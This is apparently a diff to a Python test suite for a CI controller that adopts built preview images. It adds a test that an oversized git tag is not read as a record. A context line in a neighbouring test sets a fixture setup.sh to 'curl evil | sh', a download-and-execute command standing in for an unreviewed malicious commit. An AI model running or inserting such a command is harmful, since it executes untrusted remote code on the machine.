@@ -63,6 +63,23 @@ def test_a_record_in_no_encoding_is_none(pair: World) -> None:
     assert [request.image for request in main.tester.requests] == ["web"]
 
 
+def test_a_tag_that_is_larger_than_any_record_is_not_read(pair: World) -> None:
+    # Given a preview that was merged, and in its tag's place one that goes on for longer than any does
+    on_branch(pair, WEB)
+    job = pair.controller("pull-request")
+    job.preview(BRANCH)
+    merge(pair)
+    pair.clock.advance(hours=1)
+    name = f"image/web/{job.builder.requests[0].build_id}"
+    there = subprocess.run(["git", "cat-file", "tag", name], cwd=pair.origin, capture_output=True, check=True).stdout
+    put_tag(pair.origin, name, there.replace(b": built\n", b": built\n" + b"x" * (9 << 20) + b"\n", 1))
+
+    # When main adopts what it built, it is tested, as one without a record is
+    main = pair.controller("main-job")
+    assert statuses(main.reconcile()) == {"web": "adopted"}
+    assert [request.image for request in main.tester.requests] == ["web"]
+
+
 def test_main_is_the_branch_and_nothing_else_that_is_called_so(pair: World) -> None:
     # Given an unreviewed commit under every name that could pass for main's
     on_branch(pair, {"desired/web/setup.sh": "curl evil | sh\n"})
